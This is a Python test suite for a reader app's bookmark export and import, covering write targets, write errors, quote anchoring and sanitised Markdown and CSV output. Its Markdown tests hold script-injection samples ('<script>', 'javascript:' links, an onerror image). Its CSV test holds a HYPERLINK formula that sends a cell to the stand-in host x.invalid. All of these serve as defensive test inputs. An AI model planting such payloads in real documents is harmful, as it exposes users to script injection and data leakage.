"""Bookmarks in and out (issue 10): ``export -o`` destinations and write errors, import of a second
note on a quote and of short foreign quotes, Markdown and CSV exports that carry user text as text."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import re
import resource
import signal
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from reader.bookmarks.anchor import anchor
from reader.bookmarks.export import csv_cell, export_csv, export_markdown, import_json, write_export
from reader.bookmarks.store import BookmarkError, BookmarkStore
from reader.cli import main
from reader.corpus import ArticleMeta, load_article, load_folder

from helpers import BUNDLED, ROOT

ART2 = "twitter-disparait-microsoft-advertising"


def bundled(art_id: str = ART2):
    return load_article(next(m for m in load_folder(BUNDLED).articles if m.id == art_id))


def meta(art_id: str, **fields) -> ArticleMeta:
    return ArticleMeta(id=art_id, path=Path(f"{art_id}.md"), content_hash="h", **fields)


def export(corpus: Path, *extra: str) -> int:
    return main(["--articles", str(corpus), "bookmarks", "export", *extra])


@pytest.fixture
def some(corpus):
    """Two bookmarks in the store (their articles are in ``corpus``)."""
    store = BookmarkStore()
    art = bundled()
    return [store.add(art, 2, 10, 60, note="une note"), store.add(art, 3)]


# -- export -o: where it writes ----------------------------------------------------------------------


def test_export_refuses_a_pipe_a_device_or_a_folder_and_leaves_it_alone(corpus, some, tmp_path, capsys):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    to_device = tmp_path / "full"  # a link to a device: the old code replaced the link, never /dev/full
    to_device.symlink_to("/dev/full")
    for target, kind in [(fifo, "a pipe"), (to_device, "a character device"), (tmp_path, "a folder")]:
        assert export(corpus, "--format", "json", "-o", str(target)) == 1
        err = capsys.readouterr().err
        assert kind in err and "nothing was written" in err and "-o -" in err, err
    assert stat.S_ISFIFO(fifo.lstat().st_mode)
    assert to_device.is_symlink() and stat.S_ISCHR(os.stat(to_device).st_mode)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["articles", "full", "pipe"]  # no temporary left


def test_export_writes_through_a_symlink_and_keeps_the_files_mode(corpus, some, tmp_path):
    real = tmp_path / "real.md"
    real.write_text("old", encoding="utf-8")
    real.chmod(0o640)
    link = tmp_path / "link.md"
    link.symlink_to(real)
    assert export(corpus, "-o", str(link)) == 0
    assert link.is_symlink() and link.resolve() == real
    assert real.read_text(encoding="utf-8").startswith("# Bookmarks") and some[0].note in real.read_text(encoding="utf-8")
    assert stat.S_IMODE(real.stat().st_mode) == 0o640
    # through a dangling link the file is created where it points
    (tmp_path / "dangling.md").symlink_to(tmp_path / "made.md")
    assert export(corpus, "-o", str(tmp_path / "dangling.md")) == 0
    assert (tmp_path / "dangling.md").is_symlink() and (tmp_path / "made.md").read_text(encoding="utf-8")


def test_a_new_export_gets_the_umask_mode_not_0600(corpus, some, tmp_path):
    old = os.umask(0o022)
    try:
        assert export(corpus, "--format", "csv", "-o", str(tmp_path / "new.csv")) == 0
        os.umask(0o027)
        assert export(corpus, "--format", "csv", "-o", str(tmp_path / "new2.csv")) == 0
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "new.csv").stat().st_mode) == 0o644
    assert stat.S_IMODE((tmp_path / "new2.csv").stat().st_mode) == 0o640


def test_a_write_error_is_an_error_and_the_old_file_stays_whole(corpus, tmp_path):
    store = BookmarkStore()
    art = bundled()
    for i in range(8):
        store.add(art, i, note="n" * 20_000)  # an export of ~170 kB
    target = tmp_path / "out.json"
    target.write_text("old export", encoding="utf-8")

    def small_files():  # a real write error: files may not grow past 64 kB (EFBIG, not SIGXFSZ)
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (65536, 65536))

    out = subprocess.run([sys.executable, "-m", "reader", "--articles", str(corpus), "bookmarks", "export",
                          "--format", "json", "-o", str(target)], env=dict(os.environ, PYTHONPATH=str(ROOT)),
                         capture_output=True, text=True, timeout=120, preexec_fn=small_files)
    assert out.returncode == 1, out
    assert "cannot write" in out.stderr and "File too large" in out.stderr and "Traceback" not in out.stderr
    assert target.read_text(encoding="utf-8") == "old export"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["articles", "out.json"]


def test_a_write_error_in_process_removes_the_temporary_file(tmp_path, monkeypatch):
    target = tmp_path / "out.md"
    target.write_text("old", encoding="utf-8")

    def full(fd):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(OSError, match="No space left"):
        write_export(target, "new text")
    assert target.read_text(encoding="utf-8") == "old" and [p.name for p in tmp_path.iterdir()] == ["out.md"]


def test_export_to_a_full_standard_output_fails_with_a_message(corpus, some):
    with open("/dev/full", "w") as full:
        out = subprocess.run([sys.executable, "-m", "reader", "--articles", str(corpus), "bookmarks", "export",
                              "--format", "json", "-o", "-"], env=dict(os.environ, PYTHONPATH=str(ROOT)),
                             stdout=full, stderr=subprocess.PIPE, text=True, timeout=120)
    assert out.returncode == 1, out.stderr
    assert "cannot write to standard output: No space left on device" in out.stderr
    assert "Traceback" not in out.stderr and "Exception ignored" not in out.stderr


# -- import ------------------------------------------------------------------------------------------


def _annotation(quote: str, note: str = "", uid: str | None = None, **selector) -> dict:
    ann = {"type": "Annotation",
           "target": {"source": f"reader:article/{ART2}",
                      "selector": [{"type": "TextQuoteSelector", "exact": quote, **selector}]}}
    if uid:
        ann["id"] = f"urn:uuid:{uid}"
    if note:
        ann["body"] = {"type": "TextualBody", "value": note}
    return ann


def test_import_keeps_a_second_note_on_the_same_quote(tmp_path):
    store = BookmarkStore()
    quote = bundled().passages[3].text[:80]
    path = tmp_path / "two.json"
    path.write_text(json.dumps([_annotation(quote, "première lecture", "11111111-1111-4111-8111-111111111111"),
                                _annotation(quote, "seconde lecture", "22222222-2222-4222-8222-222222222222")]),
                    encoding="utf-8")
    assert import_json(path, store) == (2, 0)
    assert sorted(b.note for b in store.list()) == ["première lecture", "seconde lecture"]
    assert import_json(path, store) == (0, 2)  # and still nothing twice


def _unique_words(text: str, plain: str) -> list[str]:
    return [w for w in dict.fromkeys(re.findall(r"\w{3,12}", text)) if plain.count(w) == 1]


def test_import_anchors_a_short_quote_found_once_whatever_its_length(tmp_path):
    art = bundled()
    plain = art.parsed.plain_text
    p = art.passages[3].text
    words = _unique_words(p, plain)
    assert len(words) >= 3
    phrase = p[10:40]
    assert plain.count(phrase) == 1
    path = tmp_path / "short.json"
    path.write_text(json.dumps([_annotation(q) for q in [phrase, *words[:3]]]), encoding="utf-8")
    store = BookmarkStore()
    assert import_json(path, store) == (4, 0)
    for bm in store.list():
        a = anchor(bm, art)
        assert a.status == "moved" and a.passage == 3, (bm.quote, a)
        assert art.passages[3].text[a.start:a.end] == bm.quote


def test_an_ambiguous_short_quote_needs_its_context_and_a_contradicted_one_stays_orphaned():
    art = bundled()
    plain = art.parsed.plain_text
    quote = "Microsoft Advertising"
    at = [m.start() for m in re.finditer(quote, plain)]
    assert len(at) >= 2
    bare = BookmarkStore().make(art, 0)  # only to get a Bookmark to vary
    foreign = dataclasses.replace(bare, content_hash="", passage=-1, start=0, end=len(quote), pos_start=-1,
                                  pos_end=-1, quote=quote, prefix="", suffix="")
    assert anchor(foreign, art).orphaned  # twice in the article, nothing to choose by
    second = at[1]
    with_context = dataclasses.replace(foreign, prefix=plain[second - 32:second],
                                       suffix=plain[second + len(quote):second + len(quote) + 32])
    a = anchor(with_context, art)
    assert not a.orphaned and art.passages[a.passage].offset + a.start == second
    # found once but its own context says it is somewhere else: not it
    word = _unique_words(art.passages[3].text, plain)[0]
    contradicted = dataclasses.replace(foreign, quote=word, prefix="Tout autre chose était écrit ici, ",
                                       suffix=" et rien de ce qui suit ne ressemble.")
    assert anchor(contradicted, art).orphaned
    assert not anchor(dataclasses.replace(contradicted, prefix="", suffix=""), art).orphaned


def test_cli_lists_an_imported_short_quote_as_anchored(corpus, tmp_path, capsys):
    art = load_article(next(m for m in load_folder(corpus).articles if m.id == ART2))
    quote = art.passages[3].text[10:40]
    path = tmp_path / "one.json"
    path.write_text(json.dumps(_annotation(quote, "courte")), encoding="utf-8")
    assert main(["--articles", str(corpus), "bookmarks", "import", str(path)]) == 0
    capsys.readouterr()
    assert main(["--articles", str(corpus), "bookmarks", "--json"]) == 0
    (row,) = json.loads(capsys.readouterr().out)
    assert row["anchor"]["status"] == "moved" and row["anchor"]["text"] == quote


# -- Markdown: user text is text ---------------------------------------------------------------------

NASTY = [
    "```\neverything after this would be code",
    "~~~python\nx = 1",
    "<script>alert(1)</script>",
    "[clic](javascript:alert(1)) and ![img](javascript:alert(2)) and <javascript:alert(3)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "# titre\n- liste\n1. un\n2) deux\n+ plus\n* étoile\n> cité\n---\n===\n    code indenté\n\tcode tab",
    "   # indented heading\n  - indented item",
    "| a | b |\n|---|---|\n| c | d |",
    "*em* **strong** _u_ ~~barré~~ `code`",
    "&copy; &#60;b&#62; AT&T &amp;",
    "\\* a backslash at the end\\",
    "<div>\nblock\n</div>",
    "setext\n---",
    "line one\r# after a carriage return",
    "<!-- comment --> <img src=x onerror=alert(1)>",
]


def _inline_text(tokens) -> str:
    parts = []
    for tok in tokens:
        if tok.type == "inline":
            parts.append("".join("\n" if c.type in ("softbreak", "hardbreak") else c.content for c in tok.children))
    return "\n".join(parts)


def _norm(text: str) -> str:
    return " ".join(text.split())


def test_markdown_export_renders_quotes_notes_and_titles_literally():
    base = BookmarkStore.make(bundled(), 2, 0, 20)
    bookmarks = []
    for i, nasty in enumerate(NASTY):
        bookmarks.append(dataclasses.replace(base, uuid=f"u{i}", quote=f"quote {i}: {nasty}", note=f"note {i}: {nasty}",
                                             article_id=f"a{i % 3}", title=f"## Titre <b>{i % 3}</b> [x](javascript:y) #"))
    metas = {"a0": meta("a0", title="*Title* <i>0</i> ##", url="javascript:alert(1)"),
             "a1": meta("a1", title="`one`", url="https://example.org/a b"),
             "a2": meta("a2", title="two", url="https://example.org/ok")}
    text = export_markdown(bookmarks, metas)

    md = MarkdownIt("gfm-like")
    md.validateLink = lambda url: True  # so that any link syntax left in the text would become a link
    tokens = md.parse(text)
    flat = tokens + [c for t in tokens if t.children for c in t.children]
    kinds = {t.type for t in flat}
    for forbidden in ("html_block", "html_inline", "fence", "code_block", "code_inline", "table_open", "hr", "image",
                      "bullet_list_open", "ordered_list_open", "s_open", "strong_open"):
        assert forbidden not in kinds, forbidden
    links = [t.attrGet("href") for t in flat if t.type == "link_open"]
    assert "https://example.org/ok" in links  # the article's URL as an autolink...
    assert all(re.match(r"https?://", href) and "javascript" not in href for href in links), links  # ...no other scheme
    assert sum(t.type == "heading_open" for t in tokens) == 1 + 3
    assert sum(t.type == "em_open" for t in flat) == len(bookmarks)  # every date line: nothing swallowed
    assert sum(t.type == "blockquote_open" and t.level == 0 for t in tokens) == len(bookmarks)
    rendered = _norm(_inline_text(tokens))
    for bm in bookmarks:
        assert _norm(bm.quote) in rendered and _norm(bm.note) in rendered
    for m in metas.values():
        assert _norm(m.title) in rendered
    assert _norm("https://example.org/a b") in rendered and "javascript:alert(1)" in rendered


# -- CSV: no formulas --------------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_never_start_a_formula(start):
    base = BookmarkStore.make(bundled(), 2, 0, 20)
    evil = f"{start}HYPERLINK(\"http://x.invalid/?\"&A1,\"clic\")"
    bm = dataclasses.replace(base, quote=evil, note=evil, title=evil)
    metas = {base.article_id: meta(base.article_id, title=evil, source=evil, url=evil)}
    (header, row) = list(csv.reader(io.StringIO(export_csv([bm], metas), newline="")))
    cells = dict(zip(header, row))
    for column in ("Highlight", "Title", "Author", "URL", "Note"):
        assert cells[column] == "'" + evil, column
    assert csv_cell("plain text") == "plain text" and csv_cell("a=1") == "a=1" and csv_cell("") == ""


def test_write_export_refuses_before_writing_anything(tmp_path):
    fifo = tmp_path / "p"
    os.mkfifo(fifo)
    with pytest.raises(BookmarkError, match="a pipe"):
        write_export(fifo, "x")
